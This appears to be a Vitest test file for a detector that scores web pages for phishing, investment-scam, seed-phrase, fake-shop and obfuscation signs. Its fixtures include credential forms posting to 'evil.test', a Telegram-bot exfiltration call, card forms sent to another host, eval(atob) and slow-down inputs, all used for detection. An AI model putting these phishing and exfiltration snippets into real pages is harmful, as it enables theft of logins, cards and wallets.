import { describe, expect, it } from 'vitest'
import { pageReading } from './page-reading.ts'
import { readPage } from './read-page.ts'
import type { PageObservation } from '../observation/page.ts'

const BRANDS = [{ name: 'Acme Bank', domains: ['acme-bank.test'] }]

const read = (html: string, domain = 'shop.test') =>
  readPage(html, { host: `www.${domain}`, domain, brands: BRANDS })

const codes = (html: string, domain?: string) =>
  read(html, domain).findings.map(({ code }) => code.slice(5))

const links = (...hrefs: string[]) => hrefs.map((href) => `<a href="${href}">x</a>`).join('')
const login = (action = '/login', more = '') =>
  `<form method="post" action="${action}"><input type="hidden" name="csrf_token"><input name="user">
   <input type="password" name="pass">${more}<button>Log in</button></form>`

describe('findings of a page that wears another face', () => {
  const copy = `<title>Acme Bank - Sign in</title>${login()}`

  it('is a brand over a password field, away from its domain', () => {
    expect(codes(copy)).toContain('BRAND_ASKS_SECRET')
    expect(codes(copy, 'acme-bank.test')).not.toContain('BRAND_ASKS_SECRET')
  })

  it('is no brand whose name is only part of a word', () => {
    expect(codes(`<title>Acme Banking news</title>${login()}`)).not.toContain('BRAND_ASKS_SECRET')
  })

  it('is weak where nothing is asked', () => {
    expect(codes('<title>Acme Bank in the news</title>')).toEqual(['BRAND_IN_TITLE'])
  })

  it('is a brand in the line of copyright of a short page', () => {
    expect(codes(`<title>Sign in</title>${login()}<p>© 2026 Acme Bank</p>`)).toContain(
      'BRAND_ASKS_SECRET',
    )
    expect(
      codes(`<title>Sign in</title>${login()}<a href="/sso">Sign in with Acme Bank</a>`),
    ).toEqual(['PASSWORD_FIELD'])
  })

  it('is a brand in the words beside a logo', () => {
    expect(
      codes(`<title>Sign in</title><img src="/img/logo.png" alt="Acme Bank">${login()}`),
    ).toContain('BRAND_ASKS_SECRET')
    expect(
      codes(`<title>Sign in</title><img src="/img/team.png" alt="Acme Bank">${login()}`),
    ).toEqual(['PASSWORD_FIELD'])
  })

  it('is the first step of a log-in in two steps', () => {
    const step =
      '<title>Acme Bank</title><form method="post" action="next.php"><input name="phone"></form>'
    expect(codes(step)).toContain('BRAND_ASKS_ACCOUNT')
    const newsletter =
      '<title>Acme Bank in the news</title><form method="post" action="/subscribe"><input name="email"></form>'
    expect(codes(newsletter)).toEqual(['BRAND_IN_TITLE'])
  })

  it('weighs little where the name is that of software people run themselves', () => {
    const brands = [{ name: 'Acme Mail', domains: ['acme.test'], selfHosted: true }]
    const { findings } = readPage(`<title>Acme Mail</title>${login()}`, {
      host: 'mail.shop.test',
      domain: 'shop.test',
      brands,
    })
    expect(findings.map(({ code }) => code)).toEqual(['PAGE_BRAND_IN_TITLE', 'PAGE_PASSWORD_FIELD'])
  })

  it('bears the name of a domain that it is not on', () => {
    const page = `<title>Area riservata - Acme.it</title>${login()}`
    expect(codes(page)).toContain('NAMES_OTHER_DOMAIN')
    expect(codes(page, 'acme.it')).not.toContain('NAMES_OTHER_DOMAIN')
    expect(codes(page, 'acme.de')).not.toContain('NAMES_OTHER_DOMAIN')
  })

  it('has the fields of the log-in of another service', () => {
    const form =
      '<form method="post" action="/x"><input type="hidden" name="csrf"><input name="loginfmt"><input type="password" name="passwd"></form>'
    expect(codes(form)).toContain('BORROWED_FORM')
    expect(codes(form, 'live.com')).not.toContain('BORROWED_FORM')
  })

  it('hurries people along', () => {
    expect(codes(`<p>Your account has been limited</p>${login()}`)).toContain('LURE')
    expect(codes(`<p>Your account has been limited</p>${links('/help')}`)).not.toContain('LURE')
  })

  it('keeps the links and the address of the original', () => {
    const away = links(...Array.from({ length: 8 }, (_, at) => `https://www.acme-bank.test/p${at}`))
    const html = `<link rel="canonical" href="https://acme-bank.test/login">${login()}${away}`
    expect(codes(html)).toEqual(expect.arrayContaining(['LINKS_LEAD_AWAY', 'CLAIMS_OTHER_ADDRESS']))
    expect(codes(html, 'acme-bank.test')).not.toContain('LINKS_LEAD_AWAY')
  })

  it('keeps the mark of the browser that saved it', () => {
    expect(codes('<!-- saved from url=(0023)https://acme-bank.test/ --><p>x</p>')).toEqual([
      'SAVED_COPY',
    ])
    expect(
      codes('<!-- saved from url=(0023)https://acme-bank.test/ --><p>x</p>', 'acme-bank.test'),
    ).toEqual([])
  })
})

describe('findings of a log-in page', () => {
  it('are next to nothing for an ordinary one', () => {
    const { findings } = read(
      `<title>Sign in</title>${login('/session')}${links('/help', '/reset')}`,
    )
    expect(findings.map(({ code }) => code)).toEqual(['PAGE_PASSWORD_FIELD'])
  })

  it('are where the password goes', () => {
    expect(codes(login('post.php'))).toContain('SECRET_TO_BARE_SCRIPT')
    expect(codes(login('wp-login.php'))).not.toContain('SECRET_TO_BARE_SCRIPT')
    expect(codes(login('https://evil.test/x'))).toContain('SECRET_TO_OTHER_HOST')
    expect(codes(login('https://login.microsoftonline.com/x'))).not.toContain(
      'SECRET_TO_OTHER_HOST',
    )
    expect(
      codes(`${login()}<script>fetch("https://api.telegram.org/bot1/sendMessage")</script>`),
    ).toContain('BROWSER_EXFILTRATION')
  })

  it('see a password field that calls itself text', () => {
    expect(codes('<form><input type="text" name="password"></form>')).toContain('PASSWORD_FIELD')
  })

  it('see a choice of mail providers', () => {
    const html = `<h1>Sign in with your email provider</h1><img alt="Gmail"><img alt="Yahoo"><img alt="AOL">${login()}`
    expect(codes(html)).toContain('MAIL_PROVIDER_CHOICE')
  })
})

describe('findings of an investment page', () => {
  const clock =
    '<div id="countdown"></div><script>setInterval(() => { const left = deadline - t; h = left / (1000*60) }, 1000); startCountdown()</script>'
  const feed = '<script src="https://s3.tradingview.com/tv.js"></script>'

  it.each([
    ['Earn 12%/yr on oil', 'a year'],
    ['12 % per annum', 'a year'],
    ['up to 1.5% daily', 'a day'],
    ['Daily profit of 3 %', 'a day'],
    ['14,5 % Rendite pro Jahr', 'a year'],
    ['monatliche Rendite: 4 %', 'a month'],
    ['25 % APY', 'a year'],
    ['8 percent per month', 'a month'],
    ['200% ROI', 'of profit'],
  ])('see the yield in "%s"', (words, period) => {
    const found = read(`<p>${words}</p>`).findings.find(({ code }) => code === 'PAGE_YIELD_CLAIM')
    expect(found?.text).toContain(period)
  })

  it.each([
    '20% off every day',
    '19 % MwSt.',
    '2 % p.a.',
    'Save 30% per year on your bill',
    '100 % cotton',
    '4,9 % effektiver Jahreszins',
  ])('see no yield in "%s"', (words) =>
    expect(codes(`<p>${words}</p>`)).not.toContain('YIELD_CLAIM'),
  )

  it('see promises that no licensed firm may make, in two languages', () => {
    expect(codes('<p>Guaranteed monthly returns</p>')).toContain('GUARANTEED_RETURNS')
    expect(codes('<p>Garantierte Rendite ohne Wartezeit</p>')).toContain('GUARANTEED_RETURNS')
    expect(codes('<p>Returns within 30 days are guaranteed to be free</p>')).not.toContain(
      'GUARANTEED_RETURNS',
    )
  })

  it('weigh a yield beside live prices or a clock more than either', () => {
    const all = codes(`<p>12%/yr</p>${feed}${clock}`)
    expect(all).toEqual(
      expect.arrayContaining(['YIELD_CLAIM', 'PRICE_FEED', 'COUNTDOWN', 'INVESTMENT_PITCH']),
    )
    expect(codes(`${feed}${clock}`)).not.toContain('INVESTMENT_PITCH')
  })

  it('see a call of a commodity price API in a script', () => {
    expect(
      codes('<p>x</p><script>fetch("https://api.oilpriceapi.com/v1/prices/latest")</script>'),
    ).toEqual(['PRICE_FEED'])
  })

  it('see a wallet to pay into', () => {
    expect(
      codes('<p>Minimum deposit 100 USDT</p><code>TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t</code>'),
    ).toContain('DEPOSIT_TO_WALLET')
  })
})

describe('findings of wallets, shops and hiding', () => {
  it('see who asks for the words of a wallet', () => {
    expect(
      codes('<p>Enter your 12-word recovery phrase</p><form><textarea name="x"></textarea></form>'),
    ).toContain('ASKS_SEED_PHRASE')
    expect(codes('<p>Never enter your recovery phrase anywhere.</p>')).not.toContain(
      'ASKS_SEED_PHRASE',
    )
  })

  it('see who gives something for connecting a wallet', () => {
    expect(codes('<p>Claim your airdrop</p><button>Connect wallet</button>')).toContain(
      'WALLET_CLAIM',
    )
  })

  const card = (action: string) =>
    `<form action="${action}"><input name="cardnumber"><input name="exp"><input name="cvv"></form>`

  it('see where a card would go', () => {
    expect(codes(card('/pay.php'))).toContain('CARD_TO_OWN_SCRIPT')
    expect(codes(card('https://collect.test/x'))).toContain('CARD_TO_OTHER_HOST')
    expect(codes(card('https://checkout.stripe.com/pay'))).toEqual([])
  })

  const goods = Array.from(
    { length: 6 },
    (_, at) => `<p>Shoe ${at} <s>€99.00</s> €29.00 -70% <a href="/p${at}">Add to cart</a></p>`,
  ).join('')

  it('see a shop without legal pages, and prices cut to the bone', () => {
    expect(codes(goods)).toEqual(expect.arrayContaining(['NO_LEGAL_PAGES', 'HUGE_DISCOUNTS']))
    expect(codes(`${goods}<a href="/imprint">Imprint</a><a href="/terms">Terms</a>`)).not.toContain(
      'NO_LEGAL_PAGES',
    )
  })

  it('see packed scripts, blocked menus and characters without width', () => {
    expect(codes('<body oncontextmenu="return false"><script>eval(atob("x"))</script>')).toEqual([
      'OBFUSCATED_SCRIPT',
      'BLOCKS_CONTEXT_MENU',
    ])
    expect(codes(`<p>${'pass\u200bword '.repeat(60)}</p>`)).toContain('INVISIBLE_IN_WORDS')
  })

  it('never repeat what the page says', () => {
    const hostile =
      '<title>Acme Bank \u001b[31m</title><form action="post.php"><input type=password></form><p>12%/yr \u202e guaranteed returns</p>'
    for (const { text } of read(hostile).findings) expect(text).toMatch(/^[\x20-\x7e]+$/)
  })
})

describe('pages that are none', () => {
  it.each([
    ['<h1>This domain is for sale</h1><a href="/offer">Make an offer</a>', 'parked', 'PAGE_PARKED'],
    [
      '<script src="https://img.sedoparking.com/x.js"></script><p>shop.test</p>',
      'parked',
      'PAGE_PARKED',
    ],
    ['<h1>Account suspended</h1><p>This account has been suspended.</p>', 'dead', 'PAGE_DEAD'],
    ['', 'dead', 'PAGE_DEAD'],
    ['<title>Just a moment...</title><p>Verify you are human</p>', 'challenge', 'PAGE_CHALLENGE'],
  ])('are recognised: %s', (html, state, code) => {
    const reading = read(html)
    expect(reading).toMatchObject({ state, skeleton: null, edges: [] })
    expect(reading.findings.map((one) => one.code)).toEqual([code])
    expect(pageReading([seen(reading)])).toEqual({ layer: 'page', state: 'unknown', reason: state })
  })

  it('are not those that ask for a password while they say so', () => {
    expect(read(`<h1>This account has been suspended</h1>${login()}`).state).toBe('live')
  })
})

function seen(
  reading: ReturnType<typeof read>,
  more: Partial<PageObservation> = {},
): PageObservation {
  const { skeleton, edges, findings } = reading
  const url = 'https://www.shop.test/'
  return {
    url,
    finalUrl: url,
    status: 200,
    seenAs: 'shopper',
    skeleton,
    edges,
    findings,
    observedAtMs: 1,
    ...more,
  }
}

describe('reading of the page layer', () => {
  it('is unknown where nobody looked', () => {
    expect(pageReading([])).toEqual({ layer: 'page', state: 'unknown', reason: 'not_asked' })
  })

  it('holds what it says to the cap of the layer and puts the strongest first', () => {
    const html = `<title>Acme Bank</title><!-- saved from url=(0023)https://acme-bank.test/ --><link rel="canonical" href="https://acme-bank.test/">
      ${login('post.php')}${links(...Array.from({ length: 9 }, (_, at) => `https://acme-bank.test/${at}`))}`
    const reading = pageReading([seen(read(html))])
    if (reading.state !== 'read') throw new Error('not read')
    expect(reading.findings[0]?.code).toBe('PAGE_BRAND_ASKS_SECRET')
    expect(reading.logOdds).toBe(4.5)
  })

  it('takes the newest view of each visitor', () => {
    const old = seen(read(login('post.php')), { observedAtMs: 1 })
    const now = seen(read('<h1>This account has been suspended</h1>'), { observedAtMs: 2 })
    expect(pageReading([old, now])).toMatchObject({ state: 'unknown', reason: 'dead' })
  })
})

describe('pages made to slow reading down', () => {
  const long = (text: string) => text.repeat(Math.ceil(1_000_000 / text.length))

  it.each([
    ['open elements alone', long('<div>')],
    ['open links', long('<a href="//x.test/z">q')],
    ['forms in forms', long('<form action=post.php><input type=password name=pass>')],
    ['an open comment', `<!--${long('x')}`],
    ['names of an obfuscator', `<script>${long('_0xabcd ')}`],
    ['halves of a call', `<script>${long('"contextmenu",')}`],
    ['timers', `<script>${long('setInterval( ')}`],
    ['halves of a yield', `<p>${long('daily profit of up to ')}`],
    ['yields', `<p>${long('12,5 - 13 % returns, ')}`],
    ['halves of an offer', `<p>${long('offer ends in ')}`],
    ['phrases', `<p>${long('guaranteed deposit send to the your referral bonus level 1 ')}`],
    ['attributes', `<div ${long('onx=1 ')}`],
    ['invisible characters', `<p>${long('\u200b \n')}`],
  ])('end in time: %s', (_, html) => {
    const from = performance.now()
    expect(read(html).state).toBeDefined()
    expect(performance.now() - from).toBeLessThan(5_000)
  })

  it('are read on behind 512 open elements', () => {
    const html = `${'<div>'.repeat(3_000)}<script>a</script><title>x</title>${login('post.php')}`
    expect(codes(html)).toContain('SECRET_TO_BARE_SCRIPT')
  })
})
